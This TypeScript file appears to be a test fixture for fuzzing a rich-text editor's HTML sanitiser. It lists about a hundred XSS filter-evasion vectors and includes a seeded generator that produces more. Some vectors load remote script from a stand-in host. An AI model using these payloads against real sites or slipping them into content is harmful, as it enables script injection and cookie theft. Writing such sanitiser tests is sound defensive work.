/**
 * XSS payloads for the editor's HTML import/export fuzz test and the server's rich-text sanitiser: vectors in the manner of the OWASP
 * XSS Filter Evasion Cheat Sheet (script tags, event handlers, javascript:/data:/vbscript: URLs with
 * encodings and whitespace tricks, SVG/MathML, style expressions, broken markup, mutation XSS), and
 * seeded mutations of them.
 */
export const xssVectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script/xss src="https://xss.example/xss.js"></script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<script>alert(String.fromCharCode(88,83,83))</script>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
  '<a href="jav\tascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x09;ascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>',
  '<a href="jav&#x0D;ascript:alert(\'XSS\');">x</a>',
  '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(\'XSS\')">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="  JAVASCRIPT:alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
  '<iframe src=https://xss.example/scriptlet.html <',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<p style="color: expression(alert(1))">x</p>',
  '<p style="background-color: url(javascript:alert(1))">x</p>',
  '<span style="font-family: x; background-image: url(javascript:alert(1))">x</span>',
  '<span style="color:red;behavior:url(xss.htc)">x</span>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>x</td></tr></TABLE>',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>',
  '<td style="background-color: rgb(1,2,3); background-image: url(javascript:alert(1))">x</td>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
  '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<A HREF="http://66.102.7.147/">XSS</A>',
  '<A HREF="h\ntt p://6\t6.000146.0x7.147/">XSS</A>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<object data="javascript:alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<p><span data-mention="x" onclick="alert(1)">@x</span></p>',
  '<span data-mention="&quot; onclick=&quot;alert(1)">@<img src=x onerror=alert(1)></span>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="javascript:alert(1)"><strong>bold link</strong></a>',
  '<h1 onclick="alert(1)" style="text-align:center">Title</h1>',
  '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
  '<td colspan="2 onmouseover=alert(1)">x</td>',
  '<p style="margin-left: 40px; expression(alert(1))">x</p>',
  '<a href="https://ok.example/" target="_self" onclick="alert(1)" download="evil.exe">ok</a>',
];

/** A small deterministic random generator (mulberry32). */
export function seeded(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const wrappers = [
  (s: string) => `<p>${s}</p>`,
  (s: string) => `<p><strong>${s}</strong></p>`,
  (s: string) => `<ul><li>${s}</li></ul>`,
  (s: string) => `<blockquote>${s}</blockquote>`,
  (s: string) => `<table><tbody><tr><td>${s}</td></tr></tbody></table>`,
  (s: string) => `<h3 style="text-align:right">${s}</h3>`,
  (s: string) => `<a href="https://ok.example/">${s}</a>`,
  (s: string) => `<span style="color:#ff0000">${s}</span>`,
];

const schemeTricks = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#x09;script:',
  '&#106;avascript:',
  ' javascript:',
  'javascript&colon;',
  'data:text/html,',
  'vbscript:',
  '\u0000javascript:',
  'jav&#x0D;ascript:',
];
const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ONCLICK', 'onpointerenter', 'onanimationstart'];
const tags = ['a', 'p', 'span', 'img', 'svg', 'td', 'li', 'h2', 'strong', 'mark', 'sub', 'iframe', 'details', 'body', 'input'];
const quote = ['"', "'", '', '`'];

/**
 * `count` generated payloads: a vector from the list or a freshly composed one (a tag with an event
 * handler, a link with an obfuscated scheme, a style with url()/expression), in a random wrapper,
 * with random case changes.
 */
export function mutatedVectors(count: number, seed = 7): string[] {
  const random = seeded(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const q = pick(quote);
    const composed = [
      () => pick(xssVectors),
      () => `<${pick(tags)} ${pick(handlers)}=${q}alert(${i})${q}>x</${pick(tags)}>`,
      () => `<a href=${q}${pick(schemeTricks)}alert(${i})${q}>link</a>`,
      () => `<img src=${q}${pick(schemeTricks)}alert(${i})${q} ${pick(handlers)}=alert(${i})>`,
      () => `<${pick(tags)} style=${q}color: red; background: url(${pick(schemeTricks)}alert(${i}))${q}>x</${pick(tags)}>`,
      () => `<p style="font-size: 12px; font-family: expression(alert(${i}))">x</p>`,
      () => `<span data-mention=${q}x${q} ${pick(handlers)}=alert(${i})>@x</span>`,
    ];
    let payload = pick(composed)();
    if (random() < 0.3) payload = payload.replace(/[a-z]/g, (c) => (random() < 0.5 ? c.toUpperCase() : c));
    if (random() < 0.5) payload = pick(wrappers)(payload);
    if (random() < 0.2) payload = payload + pick(xssVectors);
    out.push(payload);
  }
  return out;
}
